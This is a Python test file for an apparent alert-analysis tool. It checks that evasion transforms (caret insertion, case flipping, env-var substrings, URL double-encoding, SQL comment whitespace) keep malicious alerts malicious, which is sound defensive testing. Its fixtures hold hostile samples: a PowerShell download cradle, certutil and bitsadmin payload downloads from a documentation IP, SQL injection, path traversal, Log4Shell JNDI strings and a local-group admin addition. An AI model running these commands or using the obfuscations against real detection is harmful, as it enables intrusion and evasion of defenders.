"""Evasion transforms keep a malicious alert malicious, touch only their fields, and change them."""

from __future__ import annotations

import copy
import random
from urllib.parse import unquote

import pytest

from alertlens.alerts.schema import Alert
from alertlens.alerts.vocabulary import roles_of_data_config
from alertlens.evasion.base import EvasionTransform
from alertlens.evasion.catalog import TRANSFORMS, transforms_by_name
from alertlens.evasion.command_line import deobfuscate_command
from alertlens.evasion.filler import BENIGN_PARAMS, PROTECTED_WORDS
from alertlens.evasion.sql import SQL_SPACES
from alertlens.evasion.url import decode_url
from alertlens.synth.parts import encode_powershell

B64 = encode_powershell(
    "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')"
)
PAYLOAD_URL = "http://198.51.100.7/a.exe"
SEEDS = range(40)
COMMAND_TRANSFORMS = ("cmd_caret_quote", "cmd_case_flip", "cmd_env_substring", "cmd_flag_alias")
URL_TRANSFORMS = ("url_encode", "double_url_encode", "sql_comment_whitespace")


def _alert(alert_id: str, source: str, **fields: str) -> Alert:
    return Alert(
        id=alert_id,
        timestamp=1_760_000_000.0,
        source=source,
        label=1,
        group="acme",
        fields={"host": "ws-0042", "severity": 3, **fields},
    )


TRUE_POSITIVES = {
    a.id: a
    for a in (
        _alert(
            "cradle",
            "edr",
            command_line=f"powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand {B64}",
            parent_process="WINWORD.EXE",
        ),
        _alert(
            "cradle_quoted",
            "edr",
            command_line='"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" '
            f"-nop -w hidden -enc {B64}",
        ),
        _alert("certutil", "edr", command_line=f"certutil -urlcache -split -f {PAYLOAD_URL}"),
        _alert(
            "webshell",
            "edr",
            command_line="cmd.exe /c whoami",
            parent_process="w3wp.exe",
            user="IIS APPPOOL\\Portal",
        ),
        _alert(
            "bitsadmin",
            "edr",
            command_line=f"bitsadmin /transfer myjob /download /priority high {PAYLOAD_URL} "
            "C:\\Users\\Public\\a.exe",
        ),
        _alert(
            "sqli_url",
            "waf",
            url="/item.php?id=1' UNION SELECT username,password FROM users--",
            user_agent="Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
        ),
        _alert(
            "sqli_args",
            "waf",
            url="/item.php",
            query_args="id=1'+UNION+SELECT+username,password+FROM+users--&page=3",
        ),
        _alert("sqli_encoded", "waf", query_args="id=5%27%20OR%201%3D1--%20-"),
        _alert("traversal", "ids", url="/../../etc/passwd"),
        _alert(
            "log4shell_ua", "waf", url="/", user_agent="${jndi:ldap://203.0.113.5:1389/Exploit}"
        ),
        _alert("log4shell_args", "waf", query_args="q=${jndi:ldap://203.0.113.5:1389/a}"),
        _alert(
            "beacon", "ids", url="/submit.php?id=123456", user_agent="Microsoft Internet Explorer"
        ),
    )
}
COMMANDS = ("cradle", "cradle_quoted", "certutil", "webshell", "bitsadmin")
WEB = ("sqli_url", "sqli_args", "sqli_encoded", "traversal", "log4shell_args", "beacon")
APPLIES_TO = {
    "cmd_caret_quote": COMMANDS,
    "cmd_case_flip": COMMANDS,
    "cmd_env_substring": COMMANDS,
    "cmd_flag_alias": ("cradle", "cradle_quoted"),
    "url_encode": WEB,
    "double_url_encode": WEB,
    "sql_comment_whitespace": ("sqli_url", "sqli_args", "sqli_encoded"),
    "char_edit": ("bitsadmin", "sqli_url", "beacon"),
    "benign_padding": (
        "sqli_url",
        "sqli_args",
        "sqli_encoded",
        "log4shell_ua",
        "log4shell_args",
        "beacon",
    ),
}


def _rewrites(name: str) -> list[tuple[Alert, Alert]]:
    """(original, rewritten) for every alert the transform applies to, over many seeds."""
    transform = TRANSFORMS[name]
    return [
        (alert, transform.apply(alert, random.Random(seed)))
        for alert in TRUE_POSITIVES.values()
        if transform.applies_to(alert)
        for seed in SEEDS
    ]


def test_registry_declares_the_attacker_controlled_fields():
    assert {name: t.fields for name, t in TRANSFORMS.items()} == {
        "cmd_caret_quote": ("command_line",),
        "cmd_case_flip": ("command_line",),
        "cmd_env_substring": ("command_line",),
        "cmd_flag_alias": ("command_line",),
        "url_encode": ("url", "query_args"),
        "double_url_encode": ("url", "query_args"),
        "sql_comment_whitespace": ("url", "query_args"),
        "char_edit": ("user_agent", "query_args", "url", "command_line"),
        "benign_padding": ("user_agent", "query_args"),
    }


@pytest.mark.parametrize("name", sorted(TRANSFORMS))
def test_applies_exactly_where_it_makes_sense(name):
    applicable = tuple(a.id for a in TRUE_POSITIVES.values() if TRANSFORMS[name].applies_to(a))
    assert applicable == APPLIES_TO[name]


@pytest.mark.parametrize("name", COMMAND_TRANSFORMS)
def test_command_transforms_keep_the_command(name):
    for original, new in _rewrites(name):
        old_text, new_text = original.fields["command_line"], new.fields["command_line"]
        assert deobfuscate_command(new_text) == deobfuscate_command(old_text), new_text
        # Case matters inside base64 and URLs, which the casefolding oracle cannot see.
        for payload in (B64, PAYLOAD_URL):
            assert (payload in new_text) == (payload in old_text), new_text


@pytest.mark.parametrize("name", URL_TRANSFORMS)
def test_url_transforms_keep_the_request(name):
    for original, new in _rewrites(name):
        for field_name in TRANSFORMS["url_encode"].fields:
            old_text = str(original.fields.get(field_name, ""))
            new_text = str(new.fields.get(field_name, ""))
            assert decode_url(new_text) == decode_url(old_text), new_text
            # Structure stays: the same parameters in the same order after the same path.
            assert new_text.count("?") == old_text.count("?"), new_text
            old_query, new_query = old_text.partition("?")[2], new_text.partition("?")[2]
            if field_name == "query_args":
                old_query, new_query = old_text, new_text
            assert [p.partition("=")[0] for p in new_query.split("&")] == [
                p.partition("=")[0] for p in old_query.split("&")
            ]


def test_benign_padding_keeps_the_original_text():
    for original, new in _rewrites("benign_padding"):
        for field_name in ("user_agent", "query_args"):
            if field_name in original.fields:
                assert str(original.fields[field_name]) in str(new.fields[field_name])


def test_benign_padding_never_repeats_a_parameter():
    for original, new in _rewrites("benign_padding"):
        if "query_args" in original.fields:
            names = [p.partition("=")[0] for p in str(new.fields["query_args"]).split("&")]
            assert len(names) == len(set(names)), new.fields["query_args"]


def test_char_edit_changes_one_filler_word_and_no_payload_token():
    for original, new in _rewrites("char_edit"):
        changed = 0
        for field_name in TRANSFORMS["char_edit"].fields:
            if field_name not in original.fields:
                continue
            old_tokens = str(original.fields[field_name]).split()
            new_tokens = str(new.fields[field_name]).split()
            assert len(new_tokens) == len(old_tokens)
            for old, new_token in zip(old_tokens, new_tokens, strict=True):
                if old != new_token:
                    changed += 1
                    assert old.isalpha() and len(old) >= 4 and old.casefold() not in PROTECTED_WORDS
                    assert new_token.isalpha() and abs(len(new_token) - len(old)) <= 1
        assert changed >= 1


@pytest.mark.parametrize("name", sorted(TRANSFORMS))
def test_changes_only_declared_fields_and_never_the_input(name):
    transform = TRANSFORMS[name]
    for alert in TRUE_POSITIVES.values():
        if not transform.applies_to(alert):
            continue
        snapshot = copy.deepcopy(alert)
        for seed in range(5):
            new = transform.apply(alert, random.Random(seed))
            assert alert == snapshot and new is not alert and new.fields is not alert.fields
            assert (new.id, new.timestamp, new.source, new.label, new.group) == (
                alert.id,
                alert.timestamp,
                alert.source,
                alert.label,
                alert.group,
            )
            assert new.fields.keys() == alert.fields.keys()
            untouched = {k: v for k, v in alert.fields.items() if k not in transform.fields}
            assert {k: new.fields[k] for k in untouched} == untouched
            assert new.fields != alert.fields


def test_apply_is_seeded():
    alert = TRUE_POSITIVES["cradle"]
    for transform in TRANSFORMS.values():
        if transform.applies_to(alert):
            first = transform.apply(alert, random.Random(3))
            assert transform.apply(alert, random.Random(3)) == first


@pytest.mark.parametrize(
    ("name", "fields"),
    [
        ("cmd_caret_quote", {"command_line": "/bin/sh -c id"}),
        ("cmd_case_flip", {"command_line": "/usr/bin/whoami"}),
        ("cmd_env_substring", {"command_line": "sh -c uname -a"}),
        ("cmd_flag_alias", {"command_line": "cmd.exe /c whoami"}),
        ("cmd_caret_quote", {"command_line": f'"C:\\a\\b.exe" {B64} {PAYLOAD_URL}'}),
        ("url_encode", {"url": "/products/view"}),
        ("url_encode", {"url": "/%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D"}),
        ("double_url_encode", {"url": "/products/view", "query_args": "page=2&sort=asc"}),
        ("sql_comment_whitespace", {"query_args": "q=select+a+plan+for+5+users"}),
        ("sql_comment_whitespace", {"url": "/../../etc/passwd"}),
        ("char_edit", {"command_line": f"certutil -urlcache -split -f {PAYLOAD_URL}"}),
        # Regression: script text, script arguments, verbs and git refs are no filler.
        ("char_edit", {"command_line": 'powershell.exe -Command "ls | Where LastWriteTime -lt 5"'}),
        ("char_edit", {"command_line": "powershell.exe -File C:\\a.ps1 -Mode Audit"}),
        ("char_edit", {"command_line": "wbadmin start backup -quiet"}),
        ("char_edit", {"command_line": "sh -c git -C /var/www/site rev-parse HEAD"}),
        ("char_edit", {"user_agent": "${jndi:ldap://203.0.113.5:1389/Exploit}"}),
        ("char_edit", {"query_args": "id=5 UNION SELECT password FROM users WHERE name"}),
        ("benign_padding", {"command_line": "cmd.exe /c whoami", "url": "/a?b=c"}),
        (
            "benign_padding",
            {"query_args": "&".join(f"{name}={value}" for name, value in BENIGN_PARAMS)},
        ),
        ("url_encode", {"user_agent": "' OR 1=1--"}),
        ("cmd_case_flip", {"command_line": 3}),
    ],
)
def test_does_not_apply_where_it_would_mean_nothing(name, fields):
    alert = Alert(id="x", timestamp=0.0, source="edr", label=1, fields=fields)
    assert not TRANSFORMS[name].applies_to(alert)
    with pytest.raises(ValueError, match="does not apply"):
        TRANSFORMS[name].apply(alert, random.Random(0))


def test_deobfuscate_command_undoes_each_obfuscation():
    # COMSPEC = C:\Windows\system32\cmd.exe: character 21 is "m".
    assert deobfuscate_command('cm^D /C W^h""oa%COMSPEC:~21,1%i') == "cmd /c whoami"
    assert deobfuscate_command("%public:~3,1%") == "u"
    assert deobfuscate_command("%NOSUCHVAR:~1,1%x") == "%nosuchvar:~1,1%x"
    assert (
        deobfuscate_command("PowerShell /NOP -w hidden /ec QUJD -c x")
        == "powershell -noprofile -windowstyle hidden -encodedcommand qujd -c x"
    )
    # After -Command the rest is script text: its -w is not powershell.exe's flag.
    assert deobfuscate_command("pwsh -c Get-Thing -w 1") == "pwsh -command get-thing -w 1"
    assert deobfuscate_command("cmd.exe /c whoami") == "cmd.exe /c whoami"


def test_decode_url_normalizes_encodings_comments_and_spaces():
    assert decode_url("id=1%2527/**/UnIoN%09SELECT++a") == "id=1' union select a"
    assert decode_url("/%2e%2E%2f..%252fetc/passwd") == "/../../etc/passwd"
    assert decode_url("a%20%20b%0Ac") == "a b c"


def test_caret_quote_only_inserts_carets_and_empty_quotes():
    for original, new in _rewrites("cmd_caret_quote"):
        old_text, new_text = original.fields["command_line"], new.fields["command_line"]
        assert new_text.replace("^", "").replace('""', "") == old_text
        assert "^^" not in new_text and '^"' not in new_text


def test_command_transforms_leave_a_quoted_cmd_string_alone():
    # Regression: cmd /c "..." drops the outer quotes, so "Remote Desktop Users" stays quoted,
    # even once /c itself is spelled %COMSPEC:~20,1% or /C.
    quoted = '"net localgroup "Remote Desktop Users" bob /add&echo [S]"'
    original = _alert("x", "edr", command_line=f"cmd /c {quoted}")
    chain = transforms_by_name(COMMAND_TRANSFORMS)
    for seed in SEEDS:
        rng, alert = random.Random(seed), original
        for _ in range(6):
            applicable = [t for t in chain if t.applies_to(alert)]
            if applicable:
                alert = rng.choice(applicable).apply(alert, rng)
        assert alert != original and str(alert.fields["command_line"]).endswith(f" {quoted}")


def test_empty_quotes_go_only_into_program_names_and_flags():
    # Regression: rundll32 parses its own command line and would keep quotes in its arguments.
    argument = "C:\\Users\\bob\\AppData\\Local\\Temp\\abcd.dll,DllRegisterServer"
    alert = _alert("x", "edr", command_line=f"rundll32.exe {argument}")
    quoted = 0
    for seed in range(200):
        text = str(
            TRANSFORMS["cmd_caret_quote"].apply(alert, random.Random(seed)).fields["command_line"]
        )
        program, rest = text.split(" ", 1)
        assert '"' not in rest and rest.replace("^", "") == argument
        quoted += '""' in program
    assert quoted > 0


def test_case_flip_only_changes_case_of_program_and_flags():
    for original, new in _rewrites("cmd_case_flip"):
        old_tokens = original.fields["command_line"].split()
        new_tokens = new.fields["command_line"].split()
        for index, (old, new_token) in enumerate(zip(old_tokens, new_tokens, strict=True)):
            assert old.casefold() == new_token.casefold()
            if old != new_token:
                assert index == 0 or old[0] in "-/" or old_tokens[index - 1] == "/c"


def test_env_substring_uses_standard_variables():
    found = set()
    for _, new in _rewrites("cmd_env_substring"):
        text = new.fields["command_line"]
        assert "%" in text
        found.update(
            v for v in ("COMSPEC", "PUBLIC", "ProgramData", "SystemRoot", "windir") if v in text
        )
    assert found == {"COMSPEC", "PUBLIC", "ProgramData", "SystemRoot", "windir"}


def test_flag_alias_respells_only_powershell_flags():
    spellings = set()
    for original, new in _rewrites("cmd_flag_alias"):
        old_tokens = original.fields["command_line"].split()
        new_tokens = new.fields["command_line"].split()
        for old, new_token in zip(old_tokens, new_tokens, strict=True):
            if old != new_token:
                assert old[0] in "-/" and new_token[0] in "-/"
                spellings.add(new_token)
    assert {"/ec", "-e", "-ExecutionPolicy", "/NoProfile", "-win"} <= spellings


def test_flag_alias_stops_at_the_script():
    alert = _alert("x", "edr", command_line="powershell.exe -NoProfile -Command Write-Output -w")
    for seed in SEEDS:
        text = TRANSFORMS["cmd_flag_alias"].apply(alert, random.Random(seed)).fields["command_line"]
        assert text.split()[3:] == ["Write-Output", "-w"]


def test_url_encode_decodes_back_in_one_pass():
    for original, new in _rewrites("url_encode"):
        for field_name in TRANSFORMS["url_encode"].fields:
            if field_name in original.fields:
                assert unquote(str(new.fields[field_name])) == unquote(
                    str(original.fields[field_name])
                )
                assert "%25" not in str(new.fields[field_name])


def test_double_url_encode_encodes_twice():
    for _, new in _rewrites("double_url_encode"):
        text = str(new.fields.get("url", "")) + str(new.fields.get("query_args", ""))
        assert "%25" in text
    new = TRANSFORMS["double_url_encode"].apply(TRUE_POSITIVES["sqli_encoded"], random.Random(1))
    assert unquote(unquote(str(new.fields["query_args"]))) == "id=5' OR 1=1-- -"


def test_sql_rewrites_keep_identifiers_and_the_trailing_comment():
    for _, new in _rewrites("sql_comment_whitespace"):
        text = str(new.fields.get("query_args") or new.fields["url"])
        assert "username,password" in text or "%20-" in text
        assert text.endswith(("users--", "users--&page=3", "--%20-"))
        assert any(s in text for s in SQL_SPACES) or text != text.upper()


def test_sql_rewrite_leaves_whitespace_after_a_comment_alone():
    # MySQL ends "--" comments at a newline and needs a space after "--": both would change it.
    alert = _alert("x", "waf", query_args="id=1'+OR+1=1--+AND+2")
    for seed in SEEDS:
        new = TRANSFORMS["sql_comment_whitespace"].apply(alert, random.Random(seed))
        assert str(new.fields["query_args"]).endswith("--+AND+2")


def test_sql_rewrite_uses_comments_tabs_and_mixed_case():
    texts = [
        str(new.fields["query_args"])
        for _, new in _rewrites("sql_comment_whitespace")
        if new.id == "sqli_args"
    ]
    joined = "\n".join(texts)
    assert "/**/" in joined and "%09" in joined and "%0A" in joined
    mixed = [t for t in texts if "UNION" not in t or "SELECT" not in t or "FROM" not in t]
    assert mixed and all(w in t.upper() for t in mixed for w in ("UNION", "SELECT", "FROM"))


def test_command_transforms_compose_without_changing_the_command():
    chain = transforms_by_name(COMMAND_TRANSFORMS)
    for alert_id in COMMANDS:
        original = TRUE_POSITIVES[alert_id]
        for seed in SEEDS:
            rng, alert = random.Random(seed), original
            for _ in range(6):
                applicable = [t for t in chain if t.applies_to(alert)]
                if applicable:
                    alert = rng.choice(applicable).apply(alert, rng)
            text = str(alert.fields["command_line"])
            assert deobfuscate_command(text) == deobfuscate_command(
                str(original.fields["command_line"])
            ), text
            assert (B64 in text) == (B64 in str(original.fields["command_line"]))


def test_url_transforms_compose_without_changing_the_request():
    chain = transforms_by_name(URL_TRANSFORMS)
    for alert_id in WEB:
        original = TRUE_POSITIVES[alert_id]
        for seed in SEEDS:
            rng, alert = random.Random(seed), original
            for _ in range(6):
                applicable = [t for t in chain if t.applies_to(alert)]
                if applicable:
                    alert = rng.choice(applicable).apply(alert, rng)
            for field_name in TRANSFORMS["url_encode"].fields:
                if field_name in original.fields:
                    assert decode_url(str(alert.fields[field_name])) == decode_url(
                        str(original.fields[field_name])
                    )


def test_transforms_by_name_keeps_order_and_names_unknown_ones():
    assert [t.name for t in transforms_by_name(["url_encode", "char_edit"])] == [
        "url_encode",
        "char_edit",
    ]
    with pytest.raises(ValueError, match="unknown evasion transform.*nope.*known: cmd_caret_quote"):
        transforms_by_name(["url_encode", "nope"])


def test_evasion_transform_is_validated():
    with pytest.raises(ValueError, match="declares no roles"):
        EvasionTransform("empty", (), lambda f, t: True, lambda f, t, r: t)
    with pytest.raises(ValueError, match="needs a name"):
        EvasionTransform("", ("url",), lambda f, t: True, lambda f, t, r: t)
    with pytest.raises(ValueError, match=r"unknown roles \['shell'\]"):
        EvasionTransform("x", ("shell",), lambda f, t: True, lambda f, t, r: t)


def test_a_data_config_field_with_a_role_is_rewritten_like_the_canonical_one():
    roles = roles_of_data_config(
        {"fields": {"cmdline": {"path": "p.cmd", "role": "command_line"}, "uri": "r.uri"}}
    )
    flip, encode = transforms_by_name(["cmd_case_flip", "url_encode"], roles)
    assert flip.fields == ("command_line", "cmdline") and encode.fields == ("url", "query_args")
    alert = Alert("a", 0.0, "edr", 1, None, {"cmdline": "powershell.exe -NoProfile -enc AAAA"})
    rewritten = flip.apply(alert, random.Random(3)).fields["cmdline"]
    assert rewritten != alert.fields["cmdline"]
    assert rewritten.casefold() == alert.fields["cmdline"].casefold()
    assert not encode.applies_to(Alert("b", 0.0, "waf", 1, None, {"uri": "/a?b=<script>"}))
